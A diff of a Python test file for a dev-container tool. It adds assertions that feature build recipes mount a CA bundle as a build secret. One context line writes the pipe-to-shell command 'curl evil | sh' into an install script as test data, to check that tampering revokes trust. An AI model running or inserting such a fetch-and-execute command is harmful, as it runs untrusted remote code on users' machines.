@@ -170,6 +170,9 @@ def test_local_features_are_built_into_a_layer_and_covered_by_trust(repo):
     assert recipe.index("0-first") < recipe.index("1-hello")
     env = dict((r, d) for r, _, d in files)["1-hello/devcontainer-features.env"].decode()
     assert "GREETING='hi'" in env and "_REMOTE_USER='root'" in env
+    with_ca, _ = feature_recipe("localhost/base:1", dev.features, None, "", ca=True)
+    assert "RUN --mount=type=secret,id=ca_bundle,target=/run/agentsh/ca-bundle.crt cd" in with_ca
+    assert "export SSL_CERT_FILE=/run/agentsh/ca-bundle.crt" in with_ca
     # an edit of the feature's script makes the project untrusted again
     (repo / ".devcontainer" / "hello" / "install.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
     assert config.load(proj).devcontainer is None
